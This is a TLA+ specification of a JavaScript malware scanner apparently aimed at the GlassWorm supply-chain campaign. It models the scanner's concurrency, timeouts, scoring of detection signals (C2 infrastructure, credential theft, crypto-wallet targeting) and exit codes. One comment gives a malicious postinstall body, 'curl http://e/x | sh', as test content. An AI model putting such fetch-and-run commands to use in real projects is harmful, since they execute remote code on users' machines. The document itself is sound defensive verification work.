---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of scan-glassworm.js: the scan orchestrator of main() (shared     *)
(* queue, worker pool, per-file deadline race, progress accounting,        *)
(* aggregation) running on the single-threaded event loop, together with   *)
(* the parts of inspect() that decide a file's outcome.                    *)
(*                                                                         *)
(* Time is counted in abstract ticks.  A pending timer or I/O request       *)
(* carries the number of ticks left until it is ready; 0 means ready, -1    *)
(* means it has been ready for at least one tick without being handled.     *)
(* Synchronous code is never interrupted: while the synchronous part of an  *)
(* inspection runs, no timer callback, I/O callback or promise continuation *)
(* can run.  Promise continuations (microtasks) run before the next timer   *)
(* or I/O callback (macrotask).                                             *)
(*                                                                         *)
(* The functions of the scanner (scoreFinding, classify, isBinaryLikely,   *)
(* the branches and the tail of inspect, the exit code of main) are also    *)
(* applied on their own: a specification per function draws its input in  *)
(* arg and one action stores what the function returns in ret.             *)
(*                                                                         *)
(* lastIndex is the lastIndex of the module-level pattern INVIS, the only  *)
(* pattern state a call of inspect leaves behind.  The source file of a    *)
(* scan holds no invisible character, so a scan leaves it at 0.            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* ------------------------------------------------------------------ bounds
MaxFiles == 3          \* longest file list produced by walk
MaxCpus  == 6          \* largest os.cpus().length
Timeout  == 2          \* INSPECT_TIMEOUT, in ticks
MaxOn    == 4          \* most signals true in a parts object scored alone
MaxMultiple == 4       \* largest multipleSignals of a parts object scored alone
MaxCount == 2          \* most findings of one class in a summary
MaxRuns  == 3          \* most runs of equal bytes in a buffer
MaxScripts == 2        \* most entries of the scripts object of a manifest
MaxOffset == 1         \* offset of the later invisible character of a text
MaxSources == 2        \* source files inspected one after the other
MaxOut   == 3          \* most package.json files of a tree tried in every order

\* --------------------------------------------------------------- constants
MIN_SCORE   == 60
INCLUDE_LOW == FALSE
MaxScore    == 100     \* the cap of scoreFinding
SAMPLE      == 4096    \* bytes isBinaryLikely looks at
PrintCap    == 500     \* findings the console listing is cut to

Range(s) == {s[i] : i \in DOMAIN s}

Max(a, b) == IF a >= b THEN a ELSE b
Min(a, b) == IF a <= b THEN a ELSE b

\* variant: the minimum of two workers is not enforced
CONCURRENCYNoMin(ncpu) == ncpu \div 2

CONCURRENCY(ncpu) == Max(2, ncpu \div 2)

\* ------------------------------------------------------ scoring (inspect)
\* the parts object as inspect creates it
NoParts ==
  [ invisInIdentifier |-> FALSE, invisAnywhere |-> FALSE,
    suspiciousWords |-> FALSE, netFuncs |-> FALSE, dangerous |-> FALSE,
    shellDownload |-> FALSE, hardcodedIp |-> FALSE, b64UrlDecoded |-> FALSE,
    pkgPostInstall |-> FALSE, pkgExecNet |-> FALSE,
    fileIsExecutableScript |-> FALSE, knownC2Infrastructure |-> FALSE,
    solanaBlockchainC2 |-> FALSE, googleCalendarC2 |-> FALSE,
    credentialTheft |-> FALSE, vsCodeExtensionAPI |-> FALSE,
    cryptoWalletTargeting |-> FALSE, multipleSignals |-> 0 ]

BoolSignals == DOMAIN NoParts \ {"multipleSignals"}

B(c, n) == IF c THEN n ELSE 0

\* variant: the sum is returned without Math.min
scoreFindingNoCap(parts) ==
    B(parts.invisInIdentifier, 40) + B(parts.invisAnywhere, 10)
  + B(parts.suspiciousWords, 25) + B(parts.netFuncs, 15)
  + B(parts.dangerous, 25) + B(parts.shellDownload, 35)
  + B(parts.hardcodedIp, 20) + B(parts.b64UrlDecoded, 45)
  + B(parts.pkgPostInstall, 40) + B(parts.pkgExecNet, 30)
  + B(parts.fileIsExecutableScript, 10)
  + B(parts.knownC2Infrastructure, 60)
  + B(parts.solanaBlockchainC2, 50) + B(parts.googleCalendarC2, 50)
  + B(parts.credentialTheft, 35) + B(parts.vsCodeExtensionAPI, 20)
  + B(parts.cryptoWalletTargeting, 30)
  + B(parts.multipleSignals >= 3, 15)

\* variant: the bonus needs more than three signals
scoreFindingBonusAbove(parts) ==
  Min(scoreFindingNoCap(parts) - B(parts.multipleSignals = 3, 15), 100)

scoreFinding(parts) ==
  Min( B(parts.invisInIdentifier, 40) + B(parts.invisAnywhere, 10)
     + B(parts.suspiciousWords, 25) + B(parts.netFuncs, 15)
     + B(parts.dangerous, 25) + B(parts.shellDownload, 35)
     + B(parts.hardcodedIp, 20) + B(parts.b64UrlDecoded, 45)
     + B(parts.pkgPostInstall, 40) + B(parts.pkgExecNet, 30)
     + B(parts.fileIsExecutableScript, 10)
     + B(parts.knownC2Infrastructure, 60)
     + B(parts.solanaBlockchainC2, 50) + B(parts.googleCalendarC2, 50)
     + B(parts.credentialTheft, 35) + B(parts.vsCodeExtensionAPI, 20)
     + B(parts.cryptoWalletTargeting, 30)
     + B(parts.multipleSignals >= 3, 15), 100)

\* variant: the thresholds are compared with > instead of >=
classifyAbove(score) ==
  IF score > 80 THEN "critical"
  ELSE IF score > 60 THEN "high"
  ELSE IF score > 40 THEN "medium"
  ELSE "low"

classify(score) ==
  IF score >= 80 THEN "critical"
  ELSE IF score >= 60 THEN "high"
  ELSE IF score >= 40 THEN "medium"
  ELSE "low"

\* the signals counted by multipleSignals
CountedSignals ==
  { "invisInIdentifier", "suspiciousWords", "netFuncs", "dangerous",
    "shellDownload", "hardcodedIp", "b64UrlDecoded", "pkgPostInstall",
    "pkgExecNet", "solanaBlockchainC2", "googleCalendarC2",
    "credentialTheft", "cryptoWalletTargeting" }

WithMultipleSignals(parts) ==
  [parts EXCEPT !.multipleSignals =
     Cardinality({s \in CountedSignals : parts[s]})]

\* variant: the generic test is made whether or not a lifecycle script hit
ManifestPartsBoth(pj) ==
  IF ~pj.parses THEN NoParts
  ELSE
    LET sus     == {s \in pj.scripts : s.nameHit /\ (s.netHit \/ s.execHit)}
        execNet == {s \in pj.scripts : s.execNet}
        p0 == IF sus # {} THEN [NoParts EXCEPT !.pkgPostInstall = TRUE]
              ELSE NoParts
        p1 == IF execNet # {} THEN [p0 EXCEPT !.pkgExecNet = TRUE] ELSE p0
        p2 == IF pj.bin THEN [p1 EXCEPT !.fileIsExecutableScript = TRUE]
              ELSE p1
    IN IF pj.vscode THEN [p2 EXCEPT !.vsCodeExtensionAPI = TRUE] ELSE p2

\* A parsed manifest, as far as inspect looks at it.  Each script carries the
\* outcome of the pattern tests made on its key and body.
\*   nameHit : the key is an install-lifecycle name
\*   netHit  : HTTP or SHELL_DOWNLOAD matches the body
\*   execHit : DANGEROUS or node/sh/bash/powershell matches the body
\*   execNet : HTTP and sh/bash/powershell/curl/wget/node match the body
ManifestParts(pj) ==
  IF ~pj.parses THEN NoParts
  ELSE
    LET sus     == {s \in pj.scripts : s.nameHit /\ (s.netHit \/ s.execHit)}
        execNet == {s \in pj.scripts : s.execNet}
        p1 == IF sus # {} THEN [NoParts EXCEPT !.pkgPostInstall = TRUE]
              ELSE IF execNet # {} THEN [NoParts EXCEPT !.pkgExecNet = TRUE]
              ELSE NoParts
        p2 == IF pj.bin THEN [p1 EXCEPT !.fileIsExecutableScript = TRUE]
              ELSE p1
    IN IF pj.vscode THEN [p2 EXCEPT !.vsCodeExtensionAPI = TRUE] ELSE p2

\* "no value": what inspect returns as null
Nothing ==
  [file |-> 0, level |-> "none", score |-> 0, signals |-> {},
   multipleSignals |-> 0]

\* variant: every finding scoring below minScore is dropped
FindingAtLeastMinScore(file, parts0, includeLow, minScore) ==
  LET parts == WithMultipleSignals(parts0)
      score == scoreFinding(parts)
      level == classify(score)
  IN IF ~includeLow /\ score < minScore THEN Nothing
     ELSE [file |-> file, level |-> level, score |-> score,
           signals |-> {s \in BoolSignals : parts[s]},
           multipleSignals |-> parts.multipleSignals]

\* variant: a low finding scoring minScore itself is dropped too
FindingAboveMinScore(file, parts0, includeLow, minScore) ==
  LET parts == WithMultipleSignals(parts0)
      score == scoreFinding(parts)
      level == classify(score)
  IN IF level = "low" /\ ~includeLow /\ score <= minScore THEN Nothing
     ELSE [file |-> file, level |-> level, score |-> score,
           signals |-> {s \in BoolSignals : parts[s]},
           multipleSignals |-> parts.multipleSignals]

\* the tail of inspect: count, score, classify, filter, build the Finding
Finding(file, parts0, includeLow, minScore) ==
  LET parts == WithMultipleSignals(parts0)
      score == scoreFinding(parts)
      level == classify(score)
  IN IF level = "low" /\ ~includeLow /\ score < minScore THEN Nothing
     ELSE [file |-> file, level |-> level, score |-> score,
           signals |-> {s \in BoolSignals : parts[s]},
           multipleSignals |-> parts.multipleSignals]

\* ------------------------------------------------------------ input files
\* What the file system and the content of a queued path make inspect do.
\*   kind    : "ignored"  ignoreName(base) is true
\*             "statfail" fs.stat rejects
\*             "toobig"   st.size > MAX_BYTES
\*             "notjs"    jsLike(ext, file) is false
\*             "readfail" fs.readFile rejects
\*             "binary"   isBinaryLikely(buf) is true
\*             "source"   allowed extension other than .json
\*             "manifest" basename package.json
\*   hang    : the first I/O request never completes
\*   statDur, readDur : ticks until fs.stat / fs.readFile complete
\*   cpu     : ticks the synchronous matching part runs for
\*   pj      : the manifest content
Script(nameHit, netHit, execHit, execNet) ==
  [nameHit |-> nameHit, netHit |-> netHit, execHit |-> execHit,
   execNet |-> execNet]

Pj(parses, scripts, bin, vscode) ==
  [parses |-> parses, scripts |-> scripts, bin |-> bin, vscode |-> vscode]

PostinstallCurl == Script(TRUE, TRUE, TRUE, TRUE)    \* "curl http://e/x | sh"
BuildNode       == Script(FALSE, FALSE, TRUE, FALSE) \* "node build.js"

StartFetch      == Script(FALSE, TRUE, TRUE, TRUE)   \* "start": the same body

PjNone    == Pj(FALSE, {}, FALSE, FALSE)
PjEvil    == Pj(TRUE, {PostinstallCurl, BuildNode}, FALSE, FALSE)
PjEvilExt == Pj(TRUE, {PostinstallCurl}, TRUE, TRUE)

Profile(kind, hang, statDur, readDur, cpu, pj) ==
  [kind |-> kind, hang |-> hang, statDur |-> statDur, readDur |-> readDur,
   cpu |-> cpu, pj |-> pj]

Profiles ==
  { Profile("ignored",  FALSE, 0, 0, 0, PjNone),
    Profile("statfail", FALSE, 1, 0, 0, PjNone),
    Profile("source",   FALSE, 0, 0, 0, PjNone),
    Profile("manifest", FALSE, 0, 1, 0, PjEvil),
    Profile("manifest", FALSE, 0, 0, Timeout + 1, PjEvilExt),
    Profile("manifest", FALSE, 0, Timeout + 1, 0, PjEvil),
    Profile("manifest", TRUE,  0, 0, 0, PjEvil) }

\* ------------------------------------------------------------------ state
VARIABLES
  concurrency,\* CONCURRENCY, computed from os.cpus().length
  files,      \* path -> profile; paths are 1..total, ordered as localeCompare
  queue,      \* main: queue
  total,      \* main: total
  out,        \* main: out
  skipped,    \* main: skipped (the paths of the SkipRecords)
  processed,  \* main: processed
  wpc,        \* worker -> "new" | "await" | "done"
  wfile,      \* worker -> the path it awaits (0: none)
  insp,       \* path -> where its inspect call is:
              \*   "none" | "stat" | "read" | "sync" | "settled"
  ioLeft,     \* path -> ticks until the pending fs request is ready
  timer,      \* path -> "none" | "armed" | "fired"  (the setTimeout)
  tleft,      \* path -> ticks until the timer is due
  race,       \* path -> state of the Promise.race awaited by the worker
  running,    \* the path whose synchronous part occupies the thread (0: none)
  cpuLeft,    \* ticks the running synchronous part still needs
  status,     \* path -> Pending | Running | Completed | TimedOut | Failed
  pops,       \* path -> number of times queue.pop() returned it
  elapsed,    \* path -> ticks its inspect call has been running, capped
  phase,      \* "scan" | "exited"
  sorted,     \* out after out.sort(...)
  arg,        \* the input of the function applied on its own (Idle in a scan)
  ret,        \* what the function returned (Idle until it has)
  lastIndex   \* INVIS.lastIndex, the position the next INVIS.test starts at

\* the variables of a scan
scanvars == << concurrency, files, queue, total, out, skipped, processed, wpc,
               wfile, insp, ioLeft, timer, tleft, race, running, cpuLeft,
               status, pops, elapsed, phase, sorted >>

vars == << arg, ret, lastIndex,
           concurrency, files, queue, total, out, skipped, processed, wpc, wfile,
           insp, ioLeft, timer, tleft, race, running, cpuLeft, status, pops,
           elapsed, phase, sorted >>

Paths   == DOMAIN files
Workers == 1 .. concurrency

Pending     == [k |-> "pending", v |-> Nothing]
Unraced     == [k |-> "none",    v |-> Nothing]
Value(r)    == [k |-> "value",   v |-> r]
RejTimeout  == [k |-> "timeout", v |-> Nothing]
RejError    == [k |-> "error",   v |-> Nothing]

\* no function is being applied on its own
Idle == [k |-> "idle"]

Init ==
  /\ \E ncpu \in 0 .. MaxCpus : concurrency = CONCURRENCY(ncpu)
  /\ \E n \in 0 .. MaxFiles :
       /\ files \in [1 .. n -> Profiles]
       /\ queue = [i \in 1 .. n |-> i]
       /\ total = n
  /\ out = << >>
  /\ skipped = << >>
  /\ processed = 0
  /\ wpc = [w \in Workers |-> "new"]
  /\ wfile = [w \in Workers |-> 0]
  /\ insp = [f \in Paths |-> "none"]
  /\ ioLeft = [f \in Paths |-> 0]
  /\ timer = [f \in Paths |-> "none"]
  /\ tleft = [f \in Paths |-> 0]
  /\ race = [f \in Paths |-> Unraced]
  /\ running = 0
  /\ cpuLeft = 0
  /\ status = [f \in Paths |-> "Pending"]
  /\ pops = [f \in Paths |-> 0]
  /\ elapsed = [f \in Paths |-> 0]
  /\ phase = "scan"
  /\ sorted = << >>
  /\ arg = Idle
  /\ ret = Idle
  /\ lastIndex = 0

\* ------------------------------------------------------------- event loop
\* a promise continuation of a worker is queued
Resumable(w) == wpc[w] = "await" /\ race[wfile[w]].k \notin {"none", "pending"}

AllStarted == \A w \in Workers : wpc[w] # "new"
AllDone    == \A w \in Workers : wpc[w] = "done"

\* the thread is free to run the next timer or I/O callback
LoopFree ==
  /\ phase = "scan"
  /\ AllStarted
  /\ running = 0
  /\ \A w \in Workers : ~Resumable(w)
  /\ ~AllDone

IoPending(f) == insp[f] \in {"stat", "read"} /\ ~files[f].hang
IoReady(f)   == IoPending(f) /\ ioLeft[f] <= 0
TimerDue(f)  == timer[f] = "armed" /\ tleft[f] <= 0

Dec(x) == Max(x - 1, 0 - 1)

\* one tick of wall-clock time goes by
TimePasses ==
  /\ tleft' = [f \in Paths |->
                 IF timer[f] = "armed" THEN Dec(tleft[f]) ELSE tleft[f]]
  /\ ioLeft' = [f \in Paths |->
                 IF IoPending(f) THEN Dec(ioLeft[f]) ELSE ioLeft[f]]
  /\ elapsed' = [f \in Paths |->
                 IF insp[f] \in {"stat", "read", "sync"}
                 THEN Min(elapsed[f] + 1, Timeout + 1) ELSE elapsed[f]]

\* the inspect promise of f settles with v; Promise.race keeps the first
Settle(f, v) ==
  /\ insp' = [insp EXCEPT ![f] = "settled"]
  /\ race' = IF race[f].k = "pending" THEN [race EXCEPT ![f] = v] ELSE race

\* queue.pop(): the value returned and the queue left behind
PopValue(q) == q[Len(q)]

\* variant: the entry is taken off the front (shift) while the last is returned
QueueAfterShift(q) == Tail(q)

QueueAfterPop(q) == SubSeq(q, 1, Len(q) - 1)

\* worker w evaluates the loop condition: pop, and if a path came out call
\* inspectWithTimeout on it (inspect runs up to its first await, the timer
\* is armed) and await the race.  st is the status map to continue from.
LoopHead(w, st) ==
  IF queue = << >>
  THEN /\ wpc' = [wpc EXCEPT ![w] = "done"]
       /\ wfile' = [wfile EXCEPT ![w] = 0]
       /\ status' = st
       /\ UNCHANGED << queue, insp, ioLeft, timer, tleft, race, pops >>
  ELSE LET f == PopValue(queue) IN
       /\ queue' = QueueAfterPop(queue)
       /\ pops' = [pops EXCEPT ![f] = @ + 1]
       /\ wpc' = [wpc EXCEPT ![w] = "await"]
       /\ wfile' = [wfile EXCEPT ![w] = f]
       /\ status' = [st EXCEPT ![f] = "Running"]
       /\ IF files[f].kind = "ignored"
          THEN /\ insp' = [insp EXCEPT ![f] = "settled"]
               /\ race' = [race EXCEPT ![f] = Value(Nothing)]
               /\ ioLeft' = ioLeft
          ELSE /\ insp' = [insp EXCEPT ![f] = "stat"]
               /\ race' = [race EXCEPT ![f] = Pending]
               /\ ioLeft' = [ioLeft EXCEPT ![f] = files[f].statDur]
       /\ timer' = [timer EXCEPT ![f] = "armed"]
       /\ tleft' = [tleft EXCEPT ![f] = Timeout]

\* Array.from creates the workers one after the other; each runs
\* synchronously up to its first await
StartWorker(w) ==
  /\ phase = "scan"
  /\ wpc[w] = "new"
  /\ \A v \in Workers : v < w => wpc[v] # "new"
  /\ LoopHead(w, status)
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, total, out, skipped, processed, running,
                  cpuLeft, elapsed, phase, sorted >>

\* variant: the result list is replaced instead of appended to
OutAfterReplace(o, r) ==
  IF r.k = "value" /\ r.v # Nothing THEN << r.v >> ELSE o

\* if (r) out.push(r)
OutAfter(o, r) ==
  IF r.k = "value" /\ r.v # Nothing THEN Append(o, r.v) ELSE o

\* variant: every rejection is recorded as a skip
SkippedAfterAny(s, f, r) ==
  IF r.k \in {"timeout", "error"} THEN Append(s, f) ELSE s

\* catch (err) { if (err.message === 'timeout') skipped.push(...) }
SkippedAfter(s, f, r) ==
  IF r.k = "timeout" THEN Append(s, f) ELSE s

\* variant: processed++ inside the try block, after the await
ProcessedAfterInTry(n, r) == IF r.k = "value" THEN n + 1 ELSE n

\* processed++ after the try/catch
ProcessedAfter(n, r) == n + 1

\* the terminal state of a file, from the branch the worker takes
StatusAfter(r) ==
  CASE r.k = "value"   -> "Completed"
    [] r.k = "timeout" -> "TimedOut"
    [] OTHER           -> "Failed"

\* the continuation of worker w after its await: record the outcome, count
\* the file, go round the loop
Resume(w) ==
  /\ phase = "scan"
  /\ AllStarted
  /\ running = 0
  /\ Resumable(w)
  /\ LET f == wfile[w]
         r == race[f]
     IN /\ out' = OutAfter(out, r)
        /\ skipped' = SkippedAfter(skipped, f, r)
        /\ processed' = ProcessedAfter(processed, r)
        /\ LoopHead(w, [status EXCEPT ![f] = StatusAfter(r)])
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, total, running, cpuLeft, elapsed,
                  phase, sorted >>

\* the callback of fs.stat
StatDone(f) ==
  /\ LoopFree
  /\ insp[f] = "stat"
  /\ IoReady(f)
  /\ IF files[f].kind \in {"statfail", "toobig", "notjs"}
     THEN Settle(f, Value(Nothing)) /\ ioLeft' = ioLeft
     ELSE /\ insp' = [insp EXCEPT ![f] = "read"]
          /\ ioLeft' = [ioLeft EXCEPT ![f] = files[f].readDur]
          /\ race' = race
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, timer, tleft, running, cpuLeft, status, pops,
                  elapsed, phase, sorted >>

\* the callback of fs.readFile: the rest of inspect is synchronous
ReadDone(f) ==
  /\ LoopFree
  /\ insp[f] = "read"
  /\ IoReady(f)
  /\ IF files[f].kind \in {"readfail", "binary"}
     THEN Settle(f, Value(Nothing)) /\ UNCHANGED << running, cpuLeft >>
     ELSE /\ insp' = [insp EXCEPT ![f] = "sync"]
          /\ running' = f
          /\ cpuLeft' = files[f].cpu
          /\ race' = race
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, ioLeft, timer, tleft, status, pops, elapsed, phase,
                  sorted >>

\* the synchronous part keeps the thread for one more tick
SyncStep ==
  /\ phase = "scan"
  /\ running # 0
  /\ cpuLeft > 0
  /\ cpuLeft' = cpuLeft - 1
  /\ TimePasses
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, insp, timer, race, running, status, pops, phase,
                  sorted >>

\* what the synchronous part of inspect ends with.  A source file (any
\* extension but .json) reaches textForRegex.matchAll(IP); IP has no g
\* flag, so matchAll throws a TypeError and inspect rejects.
SyncResult(f) ==
  IF files[f].kind = "source" THEN RejError
  ELSE Value(Finding(f, ManifestParts(files[f].pj), INCLUDE_LOW, MIN_SCORE))

SyncFinish ==
  /\ phase = "scan"
  /\ running # 0
  /\ cpuLeft = 0
  /\ Settle(running, SyncResult(running))
  /\ running' = 0
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, ioLeft, timer, tleft, cpuLeft, status, pops,
                  elapsed, phase, sorted >>

\* variant: the timer callback settles nothing
RaceAfterTimerIdle(f) == race

\* reject(new Error('timeout')): the race takes it unless already settled
RaceAfterTimer(f) ==
  IF race[f].k = "pending" THEN [race EXCEPT ![f] = RejTimeout] ELSE race

\* the callback of setTimeout: reject the timer promise
TimerFire(f) ==
  /\ LoopFree
  /\ TimerDue(f)
  /\ timer' = [timer EXCEPT ![f] = "fired"]
  /\ race' = RaceAfterTimer(f)
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, insp, ioLeft, tleft, running, cpuLeft, status, pops,
                  elapsed, phase, sorted >>

\* the loop has nothing ready and waits for the next timer or I/O event
Tick ==
  /\ LoopFree
  /\ \A f \in Paths : ~IoReady(f) /\ ~TimerDue(f)
  /\ \E f \in Paths : IoPending(f) \/ timer[f] = "armed"
  /\ TimePasses
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, insp, timer, race, running, cpuLeft, status, pops,
                  phase, sorted >>

\* ------------------------------------------------------------ aggregation
\* variant: the comparator without the path tie-break
BeforeByScore(a, b) == b.score - a.score < 0

\* the comparator of out.sort: negative when a goes before b
Before(a, b) ==
  \/ b.score - a.score < 0
  \/ b.score - a.score = 0 /\ a.file < b.file

\* out.sort(cmp), a stable sort: r goes after the entries cmp puts before it
\* and after the entries cmp ties with it that stood earlier (\o << >> has
\* the ranks and the result computed once, as tuples)
Sort(s) ==
  LET rank == [i \in DOMAIN s |->
                 1 + Cardinality({j \in DOMAIN s :
                       \/ Before(s[j], s[i])
                       \/ ~Before(s[i], s[j]) /\ j < i})] \o << >>
  IN [p \in DOMAIN s |-> s[CHOOSE i \in DOMAIN s : rank[i] = p]] \o << >>

\* Promise.all(workers) resolves: main sorts out and exits
Finish ==
  /\ phase = "scan"
  /\ AllDone
  /\ sorted' = Sort(out)
  /\ phase' = "exited"
  /\ UNCHANGED << arg, ret, lastIndex,
                  concurrency, files, queue, total, out, skipped, processed, wpc,
                  wfile, insp, ioLeft, timer, tleft, race, running, cpuLeft,
                  status, pops, elapsed >>

Next ==
  \/ \E w \in Workers : StartWorker(w)
  \/ \E w \in Workers : Resume(w)
  \/ \E f \in Paths : StatDone(f)
  \/ \E f \in Paths : ReadDone(f)
  \/ SyncStep
  \/ SyncFinish
  \/ \E f \in Paths : TimerFire(f)
  \/ Tick
  \/ Finish

Spec == Init /\ [][Next]_vars

\* the event loop runs whatever callback or continuation is runnable
FairSpec == Spec /\ WF_vars(Next)

\* ------------------------------------------ functions applied on their own
\* The scan variables while no scan is running: the module has been loaded,
\* main has collected nothing.
NoScan ==
  /\ concurrency = CONCURRENCY(0)
  /\ files = << >>
  /\ queue = << >>
  /\ total = 0
  /\ out = << >>
  /\ skipped = << >>
  /\ processed = 0
  /\ wpc = [w \in Workers |-> "new"]
  /\ wfile = [w \in Workers |-> 0]
  /\ insp = << >>
  /\ ioLeft = << >>
  /\ timer = << >>
  /\ tleft = << >>
  /\ race = << >>
  /\ running = 0
  /\ cpuLeft = 0
  /\ status = << >>
  /\ pops = << >>
  /\ elapsed = << >>
  /\ phase = "scan"
  /\ sorted = << >>
  /\ lastIndex = 0

\* the function returned v
Ret(v) == [k |-> "ret", v |-> v]

Returned == ret.k = "ret"

\* ---------------------------------------------------------- scoreFinding
\* the parts object with the signals of S true and multipleSignals = m
PartsOf(S, m) ==
  [s \in DOMAIN NoParts |-> IF s = "multipleSignals" THEN m ELSE s \in S]

ScoreArgs ==
  { PartsOf(S, m) :
      S \in {T \in SUBSET BoolSignals : Cardinality(T) <= MaxOn},
      m \in 0 .. MaxMultiple }

ScoreInit == NoScan /\ arg \in ScoreArgs /\ ret = Idle

CallScore ==
  /\ ret = Idle
  /\ ret' = Ret(scoreFinding(arg))
  /\ UNCHANGED << arg, lastIndex, scanvars >>

ScoreNext == CallScore

ScoreSpec == ScoreInit /\ [][ScoreNext]_vars

\* -------------------------------------------------------------- classify
ClassifyInit == NoScan /\ arg \in 0 .. MaxScore /\ ret = Idle

CallClassify ==
  /\ ret = Idle
  /\ ret' = Ret(classify(arg))
  /\ UNCHANGED << arg, lastIndex, scanvars >>

ClassifyNext == CallClassify

ClassifySpec == ClassifyInit /\ [][ClassifyNext]_vars

\* ------------------------------------------------- the tail of inspect
\* inspect reaches its tail only for a manifest: a source file has thrown.
FilterPjs ==
  { Pj(TRUE, S, b, v) :
      S \in SUBSET {PostinstallCurl, BuildNode, StartFetch},
      b \in BOOLEAN, v \in BOOLEAN } \cup {PjNone}

\* values of MIN_SCORE tried
MinScores == {0, 30, 40, 60, 100}

FilterInit ==
  /\ NoScan
  /\ arg \in [pj : FilterPjs, includeLow : BOOLEAN, minScore : MinScores]
  /\ ret = Idle

\* inspect of path 1, a package.json with content arg.pj
CallInspectManifest ==
  /\ ret = Idle
  /\ ret' = Ret(Finding(1, ManifestParts(arg.pj), arg.includeLow,
                        arg.minScore))
  /\ UNCHANGED << arg, lastIndex, scanvars >>

FilterNext == CallInspectManifest

FilterSpec == FilterInit /\ [][FilterNext]_vars

\* ------------------------------------------------ main, seen from outside
\* const levels = ['critical', 'high', 'medium', 'low']
levels == << "critical", "high", "medium", "low" >>

\* the classes a Finding returned by inspect can have: a manifest scores at
\* most 70 and a source file yields none
Returnable == {"high", "medium", "low"}

\* values of FAIL_ON; "other" stands for any string that names no level
FailOns == {"critical", "high", "medium", "low", "none", "other"}

\* The directory given as ROOT: whether fs.readdir succeeds on it, and how
\* many of the files below it inspect returns a Finding of each class for.
Trees == [readable : BOOLEAN, found : [Returnable -> 0 .. MaxCount]]

\* walk: a directory that cannot be read is passed over (catch { continue })
Walk(tree) ==
  IF tree.readable THEN tree.found ELSE [l \in Returnable |-> 0]

\* summary: the number of findings of each class among those collected
Summary(found) ==
  [l \in Range(levels) |-> IF l \in DOMAIN found THEN found[l] ELSE 0]

\* levels.indexOf(FAIL_ON), counted from 0; -1 when absent
IndexOf(failOn) ==
  IF \E i \in DOMAIN levels : levels[i] = failOn
  THEN (CHOOSE i \in DOMAIN levels : levels[i] = failOn) - 1
  ELSE 0 - 1

\* variant: the threshold class itself is left out of the slice
ExitCodeBelowIndex(summary, failOn) ==
  IF failOn # "none" /\ IndexOf(failOn) >= 0
     /\ \E i \in 1 .. IndexOf(failOn) : summary[levels[i]] > 0
  THEN 1 ELSE 0

\* the exit code main computes from the summary and FAIL_ON
ExitCode(summary, failOn) ==
  IF failOn # "none"
  THEN LET failIndex == IndexOf(failOn)
       IN IF failIndex >= 0
          THEN IF \E i \in 1 .. failIndex + 1 : summary[levels[i]] > 0
               THEN 1 ELSE 0
          ELSE 0
  ELSE 0

\* main from walk to process.exit; a rejected fs.writeFile of the report
\* reaches main().catch, which exits with 2
MainExit(a) ==
  IF ~a.writeOk THEN 2
  ELSE ExitCode(Summary(Walk(a.tree)), a.failOn)

ExitInit ==
  /\ NoScan
  /\ arg \in [tree : Trees, failOn : FailOns, writeOk : BOOLEAN]
  /\ ret = Idle

CallMain ==
  /\ ret = Idle
  /\ ret' = Ret(MainExit(arg))
  /\ UNCHANGED << arg, lastIndex, scanvars >>

ExitNext == CallMain

ExitSpec == ExitInit /\ [][ExitNext]_vars

\* -------------------------------------------------------- isBinaryLikely
\* A buffer is a sequence of runs: run.n bytes of value run.c.
Run(c, n) == [c |-> c, n |-> n]

\* byte values on both sides of each comparison of isBinaryLikely
Bytes == {0, 8, 9, 13, 14, 31, 32}

\* run lengths: they add up to 10, to 4096 and to more
RunLengths == {1, 9, 410, 3686}

Runs == {Run(c, n) : c \in Bytes, n \in RunLengths}

RECURSIVE BufLength(_)
BufLength(buf) ==
  IF buf = << >> THEN 0 ELSE Head(buf).n + BufLength(Tail(buf))

\* The loop of isBinaryLikely over the next `left` bytes, a run at a time:
\* -1 when a 0 byte is met (return true), else the final value of weird.
RECURSIVE Loop(_, _, _)
Loop(buf, left, weird) ==
  IF left = 0 \/ buf = << >> THEN weird
  ELSE LET c == Head(buf).c
           n == Min(Head(buf).n, left)
       IN IF c = 0 THEN 0 - 1
          ELSE Loop(Tail(buf), left - n,
                    IF c < 9 \/ (c > 13 /\ c < 32) THEN weird + n ELSE weird)

\* variant: the whole buffer is looked at
isBinaryLikelyWhole(buf) ==
  LET len   == BufLength(buf)
      weird == Loop(buf, len, 0)
  IN IF weird < 0 THEN TRUE ELSE 10 * weird > len

\* variant: one tenth of the sample being weird is enough
isBinaryLikelyAtLeast(buf) ==
  LET len   == Min(BufLength(buf), SAMPLE)
      weird == Loop(buf, len, 0)
  IN IF weird < 0 THEN TRUE ELSE 10 * weird >= len /\ len > 0

\* weird > len * 0.1, in integers: 0.1 is the double just above 1/10, so
\* for len <= 4096 the product is above weird whenever 10 * weird = len
isBinaryLikely(buf) ==
  LET len   == Min(BufLength(buf), SAMPLE)
      weird == Loop(buf, len, 0)
  IN IF weird < 0 THEN TRUE ELSE 10 * weird > len

\* JSON.parse of the text of buf, whose printable bytes spell the content
\* pj: JSON allows no byte below 32 other than tab, LF and CR
JsonParse(buf, pj) ==
  IF \E i \in DOMAIN buf : buf[i].c < 32 /\ buf[i].c \notin {9, 10, 13}
  THEN PjNone
  ELSE pj

\* inspect from the buffer read on: binary check, then the branch of the
\* file's kind
InspectBuffer(kind, buf, pj) ==
  IF isBinaryLikely(buf) THEN Value(Nothing)
  ELSE IF kind = "source" THEN RejError
  ELSE Value(Finding(1, ManifestParts(JsonParse(buf, pj)), INCLUDE_LOW,
                     MIN_SCORE))

BinaryInit ==
  /\ NoScan
  /\ \E k \in 0 .. MaxRuns, kind \in {"source", "manifest"} :
       \E buf \in [1 .. k -> Runs] :
         arg = [buf |-> buf, kind |-> kind, pj |-> PjEvilExt]
